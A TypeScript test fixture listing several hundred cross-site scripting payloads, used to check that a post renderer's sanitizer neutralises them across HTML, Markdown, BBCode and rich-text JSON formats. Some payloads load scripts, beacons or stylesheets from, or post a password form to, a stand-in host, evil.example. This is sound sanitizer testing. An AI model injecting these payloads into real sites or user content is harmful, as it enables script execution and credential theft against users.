/**
 * Hostile post bodies. xss.test.ts runs every one through every format and through renderExcerpt, and checks the
 * output with a browser-grade HTML parser. `keep` is harmless text that must survive in the formats of `keepIn`.
 */
import type { PostFormat } from "./types.ts";

export interface XssVector {
  name: string;
  body: string;
  keep?: string;
  keepIn?: readonly PostFormat[];
}

const markup: readonly PostFormat[] = ["html", "wysiwyg"];
const source: readonly PostFormat[] = ["html", "wysiwyg", "markdown", "text", "textex", "bbcode"];
const json = (value: unknown) => JSON.stringify(value);
const rich2Link = (url: string, text = "rich2 link") =>
  json([{ type: "p", children: [{ type: "a", url, children: [{ text }] }] }]);
const richLink = (link: string) => json([{ insert: "rich link", attributes: { link } }, { insert: "\n" }]);
let nested: unknown = { text: "deep" };
for (let depth = 0; depth < 2000; depth++) nested = { type: "blockquote", children: [nested] };

const vectors: [string, string, string?, (readonly PostFormat[])?][] = [
  // Script elements.
  ["script tag", "<script>alert(1)</script>"],
  ["script src", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"],
  ["script data src", "<script/src=data:,alert(1)></script>"],
  ["split script", "<scr<script>ipt>alert(1)</script>"],
  ["double open", "<<script>alert(1)//<</script>"],
  ["unclosed script", "<script>alert(1)"],
  ["script after close", "</script><script>alert(1)</script>"],
  ["script in text", "hello <script>document.cookie</script> world", "hello", markup],
  // Event handlers.
  ["img onerror", "<img src=x onerror=alert(1)>"],
  ["img onerror quoted", '<img src="x" onerror="alert(1)">'],
  ["img onerror mixed case", "<IMG SRC=x OnErRoR=alert(1)>"],
  ["img onerror unclosed", "<img src=x onerror=alert(1)//"],
  ["img slashes", '<img/src="x"/onerror=alert(1)>'],
  ["img src eval", "<img src=x:alert(alt) onerror=eval(src) alt=0>"],
  ["body onload", "<body onload=alert(1)>"],
  ["body slash onload", "<body/onload=alert(1)>"],
  ["div onmouseover", '<div onmouseover="alert(1)">hover me</div>', "hover me", source],
  ["a onclick", '<a href="https://ok.example" onclick="alert(1)">click me</a>', "click me", source],
  ["p onclick", "<p onclick=alert(1)>para text</p>", "para text", source],
  ["input onfocus", "<input autofocus onfocus=alert(1)>"],
  ["select onfocus", "<select autofocus onfocus=alert(1)><option>o</option></select>"],
  ["textarea onfocus", "<textarea autofocus onfocus=alert(1)>t</textarea>"],
  ["video source onerror", "<video><source onerror=alert(1)></video>"],
  ["audio onerror", "<audio src=x onerror=alert(1)>"],
  ["details ontoggle", "<details open ontoggle=alert(1)><summary>s</summary>d</details>"],
  ["marquee onstart", "<marquee onstart=alert(1)>m</marquee>"],
  ["span onpointerenter", "<span onpointerenter=alert(1)>x</span>"],
  ["button onclick", "<button onclick=alert(1)>btn</button>"],
  ["td onclick", '<table background="javascript:alert(1)"><tr><td onclick=alert(1)>cell</td></tr></table>'],
  ["entity in attribute name", "<img src=x onerror&#x3d;alert(1)>"],
  ["keygen onfocus", "<keygen autofocus onfocus=alert(1)>"],
  // javascript:, data:, vbscript: links, obfuscated.
  ["javascript href", '<a href="javascript:alert(1)">js link</a>', "js link", markup],
  ["mixed case", '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ["leading space", '<a href=" javascript:alert(1)">x</a>'],
  ["tab inside", '<a href="java\tscript:alert(1)">x</a>'],
  ["newline inside", '<a href="java\nscript:alert(1)">x</a>'],
  ["tab entity", '<a href="java&#x09;script:alert(1)">x</a>'],
  ["newline entity", '<a href="java&#10;script:alert(1)">x</a>'],
  ["decimal entities", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
  ["hex entity", '<a href="&#x6A;avascript:alert(1)">x</a>'],
  ["padded entity", '<a href="jav&#0000097script:alert(1)">x</a>'],
  ["colon entity", '<a href="javascript&colon;alert(1)">x</a>'],
  ["named tab entity", '<a href="javas&Tab;cript:alert(1)">x</a>'],
  ["named newline entity", '<a href="javas&NewLine;cript:alert(1)">x</a>'],
  ["leading NUL", '<a href="\u0000javascript:alert(1)">x</a>'],
  ["inner NUL", '<a href="java\u0000script:alert(1)">x</a>'],
  ["leading control", '<a href="\u0001javascript:alert(1)">x</a>'],
  ["control entity", '<a href="&#14;javascript:alert(1)">x</a>'],
  ["space entities", '<a href=" &#x20;javascript:alert(1)">x</a>'],
  ["no-break space", '<a href="\u00a0javascript:alert(1)">x</a>'],
  ["javascript comment", '<a href="javascript://%0aalert(1)">x</a>'],
  ["data html", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ["data upper", '<a href="DATA:text/html,<script>alert(1)</script>">x</a>'],
  ["vbscript", '<a href="vbscript:msgbox(1)">x</a>'],
  ["vbscript case", '<a href="VBScript:msgbox(1)">x</a>'],
  ["file", '<a href="file:///etc/passwd">x</a>'],
  ["livescript", '<a href="livescript:alert(1)">x</a>'],
  ["protocol relative", '<a href="//evil.example/x">x</a>'],
  ["backslash relative", '<a href="/\\evil.example/x">x</a>'],
  ["img javascript", '<img src="javascript:alert(1)">'],
  ["img data svg", '<img src="data:image/svg+xml;base64,PHN2Zy8+">'],
  ["img vbscript", "<img src=vbscript:msgbox(1)>"],
  ["img dynsrc lowsrc", '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">'],
  ["img srcset", '<img src="https://ok.example/a.png" srcset="javascript:alert(1) 1x">'],
  // SVG and MathML.
  ["svg script", "<svg><script>alert(1)</script></svg>"],
  ["svg xlink", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">svg text</text></a></svg>'],
  ["svg animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"],
  ["svg set", '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>'],
  ["svg onload", "<svg/onload=alert(1)>"],
  ["svg foreignObject", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>"],
  ["svg style", "<svg><style><img src=x onerror=alert(1)></style></svg>"],
  ["math mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"],
  ["math href", '<math href="javascript:alert(1)">click</math>'],
  ["math maction", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
  // Broken markup and attribute breaking.
  ["quote breaking", '<a href="https://ok.example" title="x" onmouseover=alert(1) x=">y</a>'],
  ["close attribute", '"><script>alert(1)</script>'],
  ["single quote close", "'><img src=x onerror=alert(1)>"],
  ["backtick", "<img src=`x` onerror=alert(1)>"],
  ["quote inside href", "<a href='https://ok.example/\"onmouseover=\"alert(1)'>q</a>"],
  ["empty quotes", '<img """><script>alert(1)</script>">'],
  ["comment trick", '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ["conditional comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"],
  ["cdata", "<![CDATA[<script>alert(1)</script>]]>"],
  ["noscript mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ["style mxss", '<style><img src="</style><img src=x onerror=alert(1)//">'],
  ["title mxss", '<title><img src="</title><img src=x onerror=alert(1)>">'],
  ["textarea mxss", '<textarea><img src="</textarea><img src=x onerror=alert(1)>">'],
  ["xmp mxss", '<xmp><img src="</xmp><img src=x onerror=alert(1)>">'],
  ["iframe mxss", '<iframe><img src="</iframe><img src=x onerror=alert(1)>">'],
  ["noembed mxss", '<noembed><img src="</noembed><img src=x onerror=alert(1)>">'],
  ["template", "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>"],
  ["tag in tag", "<div <img src=x onerror=alert(1)>>"],
  ["unclosed attribute", '<a href="javascript:alert(1)'],
  // Embedding, forms, document-level elements, CSS.
  ["iframe javascript", '<iframe src="javascript:alert(1)"></iframe>'],
  ["iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ["object javascript", '<object data="javascript:alert(1)"></object>'],
  ["object data html", '<object data="data:text/html,<script>alert(1)</script>">fallback</object>'],
  ["embed", '<embed src="javascript:alert(1)">'],
  ["applet", '<applet code="x.class">a</applet>'],
  ["form action", '<form action="javascript:alert(1)"><input type=submit></form>'],
  ["formaction", "<form><button formaction=javascript:alert(1)>go</button></form>"],
  ["isindex", '<isindex action="javascript:alert(1)" type=image>'],
  ["meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ["base href", '<base href="javascript:alert(1)//">'],
  ["link stylesheet", '<link rel=stylesheet href="javascript:alert(1)">'],
  ["frameset", "<frameset onload=alert(1)>"],
  ["style url", '<style>body{background:url("javascript:alert(1)")}</style>'],
  ["style import", "<style>@import 'https://evil.example/x.css';</style>"],
  ["css expression", '<div style="width: expression(alert(1))">css text</div>', "css text", markup],
  ["css url", '<div style="background-image: url(javascript:alert(1))">bg</div>'],
  ["css behavior", '<p style="behavior: url(xss.htc)">b</p>'],
  ["css binding", '<span style="-moz-binding:url(https://evil.example/xss.xml#xss)">m</span>'],
  ["css overlay", '<a href="https://ok.example" style="position:fixed;inset:0">overlay</a>'],
  // Markdown.
  ["md javascript link", "[md link](javascript:alert(1))", "md link", ["markdown"]],
  ["md mixed case", "[x](JaVaScRiPt:alert(1))"],
  ["md entity colon", "[x](javascript&#58;alert(1))"],
  ["md spaces", "[x](  javascript:alert(1)  )"],
  ["md angle url", "[x](<javascript:alert(1)>)"],
  ["md title", '[x](javascript:alert(1) "t")'],
  ["md image javascript", "![x](javascript:alert(1))"],
  ["md image data html", "![x](data:text/html;base64,PHNjcmlwdD4=)"],
  ["md image data png", "![x](data:image/png;base64,iVBORw0KGgo=)"],
  ["md reference", "[x][ref]\n\n[ref]: javascript:alert(1)"],
  ["md reference data", "[x][r]\n\n[r]: data:text/html,<script>alert(1)</script>"],
  ["md autolink javascript", "<javascript:alert(1)>"],
  ["md autolink vbscript", "<vbscript:msgbox(1)>"],
  ["md autolink data", "<data:text/html,alert(1)>"],
  ["md title breaking", '[a](https://ok.example "title\\" onmouseover=\\"alert(1)")'],
  ["md alt breaking", '![a" onerror="alert(1)](https://ok.example/i.png)'],
  ["md percent scheme", "[x](%6A%61%76%61%73%63%72%69%70%74:alert(1))"],
  ["md html in link text", "[<img src=x onerror=alert(1)>](https://ok.example)"],
  ["md fenced script", "```\n<script>alert(1)</script>\n```"],
  ["md inline html", "a <b onclick=alert(1)>b</b> c"],
  ["md linkify script", "www.example.com/<script>alert(1)</script>"],
  // rich2 (Slate JSON).
  ["rich2 javascript url", rich2Link("javascript:alert(1)"), "rich2 link", ["rich2"]],
  ["rich2 obfuscated url", rich2Link(" JaVa\tScRiPt:alert(1)")],
  ["rich2 data url", rich2Link("data:text/html,<script>alert(1)</script>")],
  [
    "rich2 button",
    json([
      {
        type: "p",
        children: [
          { type: "link_as_button", url: "vbscript:x", buttonType: '" onclick="x', children: [{ text: "b" }] },
        ],
      },
    ]),
  ],
  [
    "rich2 mention html",
    json([
      {
        type: "p",
        children: [{ type: "@", name: "<img src=x onerror=alert(1)>", userID: 1, children: [{ text: "" }] }],
      },
    ]),
  ],
  [
    "rich2 mention userID",
    json([{ type: "p", children: [{ type: "@", name: "bob", userID: '1" onmouseover="alert(1)', children: [] }] }]),
  ],
  [
    "rich2 embed",
    json([
      {
        type: "rich_embed_card",
        url: "javascript:alert(1)",
        embedData: { url: "javascript:alert(1)", name: "<script>alert(1)</script>" },
      },
    ]),
  ],
  [
    "rich2 image embed",
    json([
      {
        type: "rich_embed_card",
        dataSourceType: "image",
        embedData: { embedType: "image", url: "javascript:alert(1)", name: "i" },
      },
    ]),
  ],
  [
    "rich2 iframe embed",
    json([
      {
        type: "rich_embed_card",
        dataSourceType: "iframe",
        url: "https://evil.example",
        frameAttributes: { src: "javascript:alert(1)" },
      },
    ]),
  ],
  [
    "rich2 code lang",
    json([
      {
        type: "code_block",
        lang: 'js" onmouseover="alert(1)',
        children: [{ type: "code_line", children: [{ text: "<script>" }] }],
      },
    ]),
  ],
  ["rich2 text html", json([{ type: "p", children: [{ text: "<script>alert(1)</script>", bold: true }] }])],
  [
    "rich2 callout",
    json([
      {
        type: "callout",
        appearance: 'x" onclick="alert(1)',
        children: [{ type: "callout-item", children: [{ text: "c" }] }],
      },
    ]),
  ],
  [
    "rich2 cell",
    json([
      {
        type: "table",
        children: [
          {
            type: "tr",
            children: [{ type: "td", attributes: { colspan: '2" onclick="x' }, children: [{ text: "c" }] }],
          },
        ],
      },
    ]),
  ],
  ["rich2 script node", json([{ type: "script", children: [{ text: "alert(1)" }] }])],
  ["rich2 deep nesting", json([nested])],
  // rich (Quill delta).
  ["rich javascript link", richLink("javascript:alert(1)"), "rich link", ["rich"]],
  ["rich data link", richLink("data:text/html,<script>alert(1)</script>")],
  [
    "rich mention html",
    json([{ insert: { mention: { name: '"><img src=x onerror=alert(1)>', userID: 1 } } }, { insert: "\n" }]),
  ],
  [
    "rich embed",
    json([{ insert: { "embed-external": { data: { url: "javascript:alert(1)", embedType: "link", name: "<b>" } } } }]),
  ],
  [
    "rich image embed",
    json([{ insert: { "embed-external": { data: { url: "javascript:alert(1)", embedType: "image" } } } }]),
  ],
  ["rich header", json([{ insert: "h" }, { insert: "\n", attributes: { header: '2"><script>alert(1)</script>' } }])],
  ["rich emoji", json([{ insert: { emoji: { emojiChars: "<img src=x onerror=alert(1)>" } } }])],
  ["rich unknown embed", json([{ insert: { image: "javascript:alert(1)" } }, { insert: { video: "x" } }])],
  ["rich list", json([{ insert: "i" }, { insert: "\n", attributes: { list: "<script>" } }])],
  // BBCode.
  ["bbcode url javascript", "[url=javascript:alert(1)]bb link[/url]", "bb link", ["bbcode"]],
  ["bbcode url content", "[url]javascript:alert(1)[/url]"],
  ["bbcode img javascript", "[img]javascript:alert(1)[/img]"],
  ["bbcode img quote", '[img]https://ok.example/a.png" onerror="alert(1)[/img]'],
  ["bbcode url quote", '[url="https://ok.example/" onmouseover="alert(1)"]x[/url]'],
  ["bbcode url html", "[url=https://ok.example]<script>alert(1)</script>[/url]"],
  ["bbcode quote author", '[quote="<img src=x onerror=alert(1)>"]q[/quote]'],
  ["bbcode code close", "[code]</code><script>alert(1)</script>[/code]"],
  ["bbcode url data", "[url=data:text/html,alert(1)]x[/url]"],
  ["bbcode img svg", "[img]data:image/svg+xml,<svg onload=alert(1)>[/img]"],
  ["bbcode vbscript", "[url=vbscript:msgbox(1)]x[/url]"],
  ["bbcode tab", "[url= java\tscript:alert(1)]x[/url]"],
  // Mentions.
  ["mention html", '@"<img src=x onerror=alert(1)>" hi'],
  ["mention in attribute", '<a title="@bob" href="javascript:alert(1)">@bob</a>'],
  ["mention quote breaking", '@"x\\" onmouseover=\\"alert(1)" hi'],
  ["mention scheme", "@javascript:alert(1) hi"],
  ["mention entity", "@&quot;onmouseover=alert(1)&quot; hi"],
  ["mention overlong", `@${"a".repeat(70)}<script>alert(1)</script>`],
  ["mention in link text", '<a href="https://ok.example">@"<img src=x onerror=alert(1)>"</a>'],
  ["emoji shortcode html", ":<img src=x onerror=alert(1)>: :smile:"],
  // Unquoted attributes and odd separators.
  ["unquoted javascript href", "<a href=javascript:alert(1)>unquoted</a>"],
  ["unquoted space entity", "<a href=&#32;javascript:alert(1)>x</a>"],
  ["empty src onerror", "<img src onerror=alert(1)>"],
  ["form feed separators", "<img\fsrc=x\fonerror=alert(1)>"],
  ["newline separators", "<img\nsrc=x\nonerror=alert(1)>"],
  ["slash separators", "<img/src=x/onerror=alert(1)/>"],
  ["backtick href", "<a href=`javascript:alert(1)`>g</a>"],
  ["duplicate attributes", '<a href="https://ok.example" href="javascript:alert(1)">dup</a>'],
  ["attribute in closing tag", "<b>x</b onmouseover=alert(1)>"],
  // More URL contexts and obfuscations.
  ["percent in javascript", '<a href="javascript:%61lert(1)">x</a>'],
  ["encoded colon", '<a href="javascript%3Aalert(1)">x</a>'],
  ["data svg link", '<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>'],
  ["data padded case", '<a href=" DaTa:text/html,<script>alert(1)</script>">x</a>'],
  ["vbscript entity", '<a href="&#118;bscript:msgbox(1)">x</a>'],
  ["fullwidth colon", '<a href="javascript\uff1aalert(1)">x</a>'],
  ["zero width in scheme", '<a href="java\u200bscript:alert(1)">x</a>'],
  ["soft hyphen in scheme", '<a href="java&shy;script:alert(1)">x</a>'],
  ["area href", '<map name=m><area shape=rect coords=0,0,9,9 href="javascript:alert(1)"></map>'],
  ["blockquote cite", '<blockquote cite="javascript:alert(1)">cited</blockquote>'],
  ["input image", "<input type=image src=x onerror=alert(1)>"],
  ["video poster", '<video poster="javascript:alert(1)" src=x onerror=alert(1)></video>'],
  ["a ping beacon", '<a href="https://ok.example" ping="https://evil.example/beacon">ping</a>'],
  ["img external beacon", '<img src="https://evil.example/beacon.gif" onload="alert(1)">'],
  ["srcset beacon", '<img src="https://ok.example/a.png" srcset="https://evil.example/beacon.png 2x">'],
  // srcdoc and frames.
  ["srcdoc entities", '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>'],
  ["iframe data", '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'],
  ["frame src", '<frameset><frame src="javascript:alert(1)"></frameset>'],
  ["iframe evil", '<iframe src="https://evil.example/frame"></iframe>'],
  // SVG, MathML and parsing differentials (mXSS).
  ["svg use data", '<svg><use href="data:image/svg+xml,<svg id=x><image href=x onerror=alert(1) /></svg>#x"/></svg>'],
  ["svg image onerror", "<svg><image href=x onerror=alert(1) /></svg>"],
  [
    "svg animate values",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>an</text></a></svg>",
  ],
  ["svg p breakout", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ["svg style comment", "<svg><style><!--</style><img src=x onerror=alert(1)>--></style></svg>"],
  [
    "math mglyph textarea",
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  ],
  ["form math mxss", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"],
  ["noscript img", "<noscript><img src=x onerror=alert(1)></noscript>"],
  ["noframes mxss", '<noframes><img src="</noframes><img src=x onerror=alert(1)>">'],
  ["plaintext", "<plaintext><img src=x onerror=alert(1)>"],
  ["select template", "<select><template><img src=x onerror=alert(1)></template></select>"],
  ["template style", "<template><style></template><img src=x onerror=alert(1)></style></template>"],
  ["table style mxss", "<table><style><img src=x onerror=alert(1)></style></table>"],
  ["comment bang", "<!--><img src=x onerror=alert(1)>-->"],
  ["comment dash bang", "<!--!><img src=x onerror=alert(1)>-->"],
  ["processing instruction", "<?xml ?><img src=x onerror=alert(1)>"],
  ["textarea attribute", '<textarea title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
  // CSS, document-level and loading elements.
  ["css escaped expression", '<div style="x:\\65 xpression(alert(1))">e</div>'],
  ["css beacon", "<div style=\"background:url('https://evil.example/beacon')\">bg</div>"],
  ["style font beacon", "<style>@font-face{font-family:x;src:url(https://evil.example/font)}</style>"],
  ["link import", '<link rel=import href="data:text/html,<script>alert(1)</script>">'],
  ["link prefetch", '<link rel=prefetch href="https://evil.example/beacon">'],
  ["meta refresh data", '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">'],
  ["meta refresh evil", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ["meta charset utf7", '<meta charset="UTF-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
  ["base evil", '<base href="https://evil.example/" target="_top">'],
  [
    "form external",
    '<form action="https://evil.example/c" method=post><input name=password><button>send</button></form>',
  ],
  ["input formaction", "<input type=submit formaction=javascript:alert(1) value=go>"],
  ["object param", '<object><param name=src value="javascript:alert(1)"></object>'],
  ["embed svg", '<embed src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ["object evil", '<object type="text/html" data="https://evil.example/x.html"></object>'],
  // DOM clobbering.
  ["id proto", '<a id="__proto__" name="__proto__" href="https://ok.example">proto</a>'],
  ["name getElementById", '<img name="getElementById" id="getElementById" src="https://ok.example/a.png">'],
  ["form clobber", '<form id="__xss" name="__xss"><input name="push"></form>'],
  ["state element id", '<div id="__PARLEY_STATE__">{"x":1}</div>'],
  ["app element id", '<div id="app">app</div>'],
  ["heading clobber", "<h2>root</h2><h2>__proto__</h2>"],
  // Template literals and framework syntax.
  ["template literal", "${alert(1)}"],
  ["template literal backticks", "`${alert(1)}`"],
  ["angular expression", "{{constructor.constructor('alert(1)')()}}"],
  ["react html json", '{"__html":"<img src=x onerror=alert(1)>"}'],
  ["react props json", '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}'],
  ["vue v-html", "<div v-html=\"'<img src=x onerror=alert(1)>'\">v</div>"],
  ["json comment breakout", "<!--<script>alert(1)</script>"],
  ["line separators", "\u2028\u2029</script><script>alert(1)</script>"],
  // More Markdown.
  ["md tab entity", "[x](java&#9;script:alert(1))"],
  ["md html block", "<div>\n\n[x](javascript:alert(1))\n\n</div>"],
  ["md nested link", "[[x](javascript:alert(1))](https://ok.example)"],
  ["md image in link", "[![img](https://ok.example/i.png)](javascript:alert(1))"],
  ["md escaped colon", "[x](javascript\\:alert(1))"],
  ["md image title", '![x](https://ok.example/i.png "\\" onerror=\\"alert(1))'],
  ["md email autolink", "<javascript:alert(1)@example.com>"],
  ["md footnote", "[^1]\n\n[^1]: <script>alert(1)</script>"],
  ["md reference title", '[x][t]\n\n[t]: https://ok.example "a\\" onclick=\\"alert(1)"'],
  // More BBCode.
  ["bbcode color css", "[color=red;background:url(javascript:alert(1))]c[/color]"],
  ["bbcode color quote", '[color="red" onmouseover="alert(1)"]c[/color]'],
  ["bbcode url img", "[url=https://ok.example][img]javascript:alert(1)[/img][/url]"],
  ["bbcode img size", '[img=1x1" onerror="alert(1)]https://ok.example/a.png[/img]'],
  ["bbcode url entity", "[url=&#106;avascript:alert(1)]x[/url]"],
  ["bbcode email", "[email]javascript:alert(1)[/email]"],
  ["bbcode youtube", '[youtube]"><script>alert(1)</script>[/youtube]'],
  ["bbcode quote scheme", "[quote=x;javascript:alert(1)]q[/quote]"],
  ["bbcode list attribute", '[list=1" onclick="alert(1)][*]i[/list]'],
  // More rich2 (Slate) and rich (Quill).
  [
    "rich2 link attributes",
    json([
      {
        type: "p",
        children: [
          { type: "a", url: "https://ok.example", onclick: "alert(1)", target: "_top", children: [{ text: "a" }] },
        ],
      },
    ]),
  ],
  ["rich2 image node", json([{ type: "image", url: "javascript:alert(1)", children: [{ text: "" }] }])],
  [
    "rich2 inline embed",
    json([
      {
        type: "p",
        children: [
          {
            type: "rich_embed_inline",
            url: "https://ok.example",
            embedData: { name: "<img src=x onerror=alert(1)>" },
            children: [],
          },
        ],
      },
    ]),
  ],
  ["rich2 emoji alt", json([{ type: "legacy_emoji_image", attributes: { alt: '"><img src=x onerror=alert(1)>' } }])],
  [
    "rich2 mention quote",
    json([{ type: "p", children: [{ type: "@", name: '" onmouseover="alert(1)" x="', children: [] }] }]),
  ],
  [
    "rich2 svg image embed",
    json([
      { type: "rich_embed_card", embedData: { embedType: "image", url: "data:image/svg+xml,<svg onload=alert(1)>" } },
    ]),
  ],
  [
    "rich2 frame embed",
    json([
      {
        type: "rich_embed_card",
        dataSourceType: "iframe",
        url: "https://evil.example",
        embedData: { embedType: "iframe", url: "https://evil.example", frameSrc: "javascript:alert(1)" },
      },
    ]),
  ],
  ["rich2 code leaf", json([{ type: "p", children: [{ text: "</code><script>alert(1)</script>", code: true }] }])],
  [
    "rich image data",
    json([
      {
        insert: { "embed-external": { data: { url: "data:image/svg+xml,<svg onload=alert(1)>", embedType: "image" } } },
      },
    ]),
  ],
  ["rich obfuscated link", richLink("  jAvAsCrIpT\n:alert(1)")],
  [
    "rich mention userID",
    json([{ insert: { mention: { name: "bob", userID: '1" onclick="alert(1)' } } }, { insert: "\n" }]),
  ],
  ["rich emoji url", json([{ insert: { emoji: { emojiChars: "x", url: "javascript:alert(1)" } } }, { insert: "\n" }])],
  [
    "rich code block",
    json([{ insert: "x" }, { insert: "\n", attributes: { "code-block": '"><script>alert(1)</script>' } }]),
  ],
  [
    "rich link html",
    json([{ insert: "<img src=x onerror=alert(1)>", attributes: { link: "https://ok.example" } }, { insert: "\n" }]),
  ],
  // Unicode: may render, must not run.
  ["rtl override", '<a href="https://ok.example/\u202egnp.exe">\u202egnp.exe</a>'],
  ["zero width joiner", "jav\u200dascript:alert(1)"],
  ["homoglyph url", '<a href="https://g\u043e\u043egle.example/">homoglyph</a>'],
  ["fullwidth tags", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"],
  ["escaped unicode", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"],
  ["bom script", "\ufeff<script>alert(1)</script>"],
  ["utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"],
  ["overlong utf8", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"],
  ["bidi md link", "[\u202eexe.txt](https://ok.example)"],
];

export const xssCorpus: XssVector[] = vectors.map(([name, body, keep, keepIn]) => ({
  name,
  body,
  ...(keep === undefined ? {} : { keep, keepIn: keepIn ?? source }),
}));
